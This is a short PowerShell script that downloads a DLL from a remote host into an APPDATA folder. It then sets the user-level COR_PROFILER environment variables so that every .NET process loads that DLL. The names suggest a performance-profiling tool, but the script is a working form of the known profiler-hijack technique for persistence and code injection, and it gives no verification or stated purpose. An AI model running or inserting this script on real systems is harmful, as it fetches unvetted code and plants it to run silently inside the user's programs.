$dll = "$env:APPDATA\perf\prof.dll"
New-Item -ItemType Directory -Force (Split-Path $dll) | Out-Null
Invoke-WebRequest 'https://perf-tools.example.org/prof.dll' -OutFile $dll
[Environment]::SetEnvironmentVariable('COR_ENABLE_PROFILING', '1', 'User')
[Environment]::SetEnvironmentVariable('COR_PROFILER', '{cf0d821e-299b-5307-a3d8-b283c03916db}', 'User')
[Environment]::SetEnvironmentVariable('COR_PROFILER_PATH', $dll, 'User')
